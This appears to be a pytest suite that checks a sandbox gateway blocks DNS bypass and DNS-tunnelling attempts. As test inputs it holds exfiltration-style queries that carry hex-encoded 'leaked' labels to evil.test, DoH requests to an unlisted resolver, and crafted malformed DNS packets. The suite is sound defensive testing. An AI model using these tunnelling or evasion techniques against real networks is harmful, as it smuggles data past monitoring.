"""Classes "other resolvers" and "DNS tunnelling", plus malformed queries: the gateway
is the only resolver, answers A for allowed names only, refuses other types, and the
zone's real nameserver (the fake internet's, which records every query) sees nothing
for names or types that are not allowed."""
import struct
import time

import guestpy
import netlab

AUTH, CANARY = "192.0.2.53", "198.51.100.53"


def queries_since(lab, mark, server=None):
    return [e for e in lab.since(mark, "dns") if server is None or e["server"] == server]


def test_public_resolver_udp_unreachable(lab, sb):
    mark = lab.mark()
    r = sb.py("dns", CANARY, "allowed.test", "1")
    assert r.get("timeout")
    r = sb.run("dig", "+time=1", "+tries=1", "@" + CANARY, "evil.test")
    assert "ANSWER SECTION" not in r.stdout
    time.sleep(0.3)
    assert not queries_since(lab, mark)


def test_public_resolver_tcp_unreachable(lab, sb):
    mark = lab.mark()
    r = sb.py("dns", CANARY, "allowed.test", "1", "tcp")
    assert r.get("timeout")
    assert not lab.since(mark)


def test_dot_unreachable(lab, sb):
    before, mark = lab.counters(), lab.mark()
    r = sb.py("tcp", CANARY, "853", "", "2")
    assert not r["connected"]
    assert lab.counters()["tcp_853"] == before["tcp_853"] and not lab.since(mark)


def test_doh_to_unlisted_name_refused(lab, sb):
    mark = lab.mark()
    r = sb.run("curl", "-sS", "-m", "5", "--cacert", lab.dir + "/guest-ca.pem",
               "-H", "content-type: application/dns-message",
               "https://dns.evil.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
    assert r.returncode != 0
    r = sb.run("curl", "-sS", "-m", "5", "-k", "--resolve", "dns.evil.test:443:198.51.100.53",
               "https://dns.evil.test/dns-query")
    assert r.returncode != 0
    time.sleep(0.3)
    assert not [e for e in lab.since(mark) if e["kind"] in ("tcp", "tls", "http")]
    assert not queries_since(lab, mark)


def test_gateway_answers_unlisted_name_nxdomain_locally(lab, sb):
    mark = lab.mark()
    r = sb.py("dns", netlab.GW_IP, "evil.test", "1")
    assert r["rcode"] == 3 and not r["answers"]
    time.sleep(0.3)
    assert not queries_since(lab, mark)


def test_tunnel_labels_under_unlisted_zone_never_forwarded(lab, sb):
    mark = lab.mark()
    secret = "6c65616b6564"  # "leaked"
    for i in range(5):
        r = sb.py("dns", netlab.GW_IP, "%s%d.t.evil.test" % (secret, i), "1")
        assert r["rcode"] == 3
    r = sb.run("dig", "+time=2", "+tries=1", "%s.evil.test" % secret)
    assert "NXDOMAIN" in r.stdout
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if secret in (q["name"] or "")]


def named(lab, mark, name):
    return [q for q in queries_since(lab, mark) if q["name"] == name]


def test_dangerous_types_refused_even_for_allowed_names(lab, sb):
    mark = lab.mark()
    for name in ("allowed.test", "types-probe.allowed.test"):
        for qtype in (16, 10, 255, 65, 64, 15, 12, 99):  # TXT NULL ANY HTTPS SVCB MX PTR SPF
            r = sb.py("dns", netlab.GW_IP, name, str(qtype))
            assert r["rcode"] == 5 and r["ancount"] == 0, (qtype, r)
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if q["qtype"] != 1]
    assert not named(lab, mark, "types-probe.allowed.test")


def test_aaaa_empty(lab, sb):
    r = sb.py("dns", netlab.GW_IP, "allowed.test", "28")
    assert r["rcode"] == 0 and r["ancount"] == 0


def test_non_in_class_refused(lab, sb):
    q = bytearray(guestpy.dns_query("allowed.test", 16))
    q[-2:] = struct.pack("!H", 3)  # CHAOS
    r = sb.py("dnsraw", netlab.GW_IP, bytes(q).hex())
    assert r["rcode"] == 5


def test_malformed_queries(lab, sb):
    mark = lab.mark()
    good = guestpy.dns_query("malformed-probe.allowed.test", 1)
    two_q = good[:4] + b"\x00\x02" + good[6:] + good[12:]
    loop = good[:12] + b"\xc0\x0c" + b"\x00\x01\x00\x01"
    fwd = good[:12] + b"\x01a\xc0\x20" + b"\x00\x01\x00\x01"
    response = good[:2] + b"\x81\x00" + good[4:]
    dotted = good[:12] + b"\x0fmalformed-probe\x0dallowed.test\x00\x04test\x00" + b"\x00\x01\x00\x01"
    longname = good[:12] + (b"\x3f" + b"a" * 63) * 5 + b"\x00\x00\x01\x00\x01"
    cases = {"garbage": b"\xff" * 40, "short": b"\x12", "two_questions": two_q,
             "pointer_loop": loop, "forward_pointer": fwd, "truncated": good[:-3],
             "dot_in_label": dotted, "name_too_long": longname, "oversized": good + b"\0" * 600}
    for name, raw in cases.items():
        r = sb.py("dnsraw", netlab.GW_IP, raw.hex())
        assert r["reply"] is None or r["rcode"] in (1, 5), (name, r)
    r = sb.py("dnsraw", netlab.GW_IP, response.hex())
    assert r["reply"] is None  # never answer a response (no reflection loops)
    assert lab.gateway_alive()
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if "malformed-probe" in (q["name"] or "")]


def test_wildcard_allows_subdomains_but_not_parent_tricks(lab, sb):
    r = sb.py("dns", netlab.GW_IP, "www.allowed.test", "1")
    assert r["answers"] == ["203.0.113.10"]
    for name in ("allowed.test.evil.test", "evilallowed.test", "xallowed.test"):
        assert sb.py("dns", netlab.GW_IP, name, "1")["rcode"] == 3, name
